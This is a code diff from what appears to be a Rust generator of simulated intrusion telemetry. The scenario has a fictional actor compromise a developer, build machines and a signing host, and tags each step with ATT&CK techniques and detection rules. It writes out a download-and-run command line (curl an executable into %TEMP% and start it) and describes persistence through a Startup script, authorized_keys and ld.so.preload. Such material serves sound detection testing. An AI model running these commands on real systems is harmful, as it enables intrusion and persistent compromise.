@@ -64,7 +64,7 @@ fn actors(world: &World) -> Vec<ActorProfile> {
         ACTOR,
         "the fictional state of Osteria Magna, for money",
         &["T1566.003", "T1204.002", "T1195.001", "T1528", "T1552.004", "T1098.001"],
-        &["assessor.exe"],
+        &["assessor"],
         &["recruiters of invented funds", "coding tasks with editor tasks"],
     )]
 }
@@ -79,6 +79,7 @@ fn plant(p: &mut Plan<'_>) {
     let task = server(p, "talent-tasks", "org");
     let relay = server(p, "relay", "net");
     let tool = p.tool("assessor");
+    let called = w.called("assessor");
     let agent = p.tool("agentd");
     let persona = format!("recruiting@bluepeak-{}.example.com", p.dice.hex(3));
     let temp = format!("C:\\Users\\{}\\AppData\\Local\\Temp", dev.account);
@@ -126,13 +127,13 @@ fn plant(p: &mut Plan<'_>) {
     );
     let node = p.standing(desk, &dev.windows, NODE);
     let line = format!(
-        "cmd.exe /c curl -s -o %TEMP%\\assessor.exe https://{}/a && start /b %TEMP%\\assessor.exe",
+        "cmd.exe /c curl -s -o %TEMP%\\{called}.exe https://{}/a && start /b %TEMP%\\{called}.exe",
         task.name
     );
     let shell = p.run(desk, &node, CMD, &line);
     p.step(7_504, "what it downloaded runs and calls home", &["T1105", "T1071.001"], &[rules::WRITABLE_OUT]);
-    let place = format!("{temp}\\assessor.exe");
-    let assessor = p.run_file(desk, &shell, &place, "assessor.exe", Some(&tool));
+    let place = format!("{temp}\\{called}.exe");
+    let assessor = p.run_file(desk, &shell, &place, &format!("{called}.exe"), Some(&tool));
     reaches(p, desk, &assessor, &task);
     p.step(7_560, "it comes back with the desktop", &["T1547.001"], &[rules::STARTUP]);
     let start = "AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\update-check.js";
@@ -195,8 +196,8 @@ fn plant(p: &mut Plan<'_>) {
         &["T1105", "T1071.001"],
         &[rules::TEMPORARY_OUT],
     );
-    let spot = "/var/tmp/.cache/agentd";
-    let first = p.run_file(build, &shell, spot, "/var/tmp/.cache/agentd -d", Some(&agent));
+    let spot = &format!("/var/tmp/.cache/{}", w.called("agentd"));
+    let first = p.run_file(build, &shell, spot, &format!("{spot} -d"), Some(&agent));
     reaches(p, build, &first, &task);
     p.step(300, "keys are searched for", &["T1552.004"], &[rules::KEYS_SEARCHED]);
     p.run(
@@ -207,7 +208,7 @@ fn plant(p: &mut Plan<'_>) {
     );
     p.step(420, "the same program on the next build machine", &["T1570"], &[rules::TEMPORARY_OUT]);
     let shell = p.standing(other, "runner", "/bin/bash");
-    let second = p.run_file(other, &shell, spot, "/var/tmp/.cache/agentd -d", Some(&agent));
+    let second = p.run_file(other, &shell, spot, &format!("{spot} -d"), Some(&agent));
     reaches(p, other, &second, &relay);
 
     p.phase(560, 21);
@@ -236,7 +237,7 @@ fn plant(p: &mut Plan<'_>) {
     let shell = p.standing(signer, "signer", "/usr/bin/bash");
     p.on(signer, wrote(&shell, "/home/signer/.ssh/authorized_keys"));
     p.step(900, "the program of the build machines on the signing host", &["T1570"], &[rules::TEMPORARY_OUT]);
-    let third = p.run_file(signer, &shell, spot, "/var/tmp/.cache/agentd -d", Some(&agent));
+    let third = p.run_file(signer, &shell, spot, &format!("{spot} -d"), Some(&agent));
     reaches(p, signer, &third, &relay);
     p.step(1_000, "a library forced into every program", &["T1574.006"], &[rules::PRELOAD]);
     p.on(signer, wrote(&third, "/etc/ld.so.preload"));
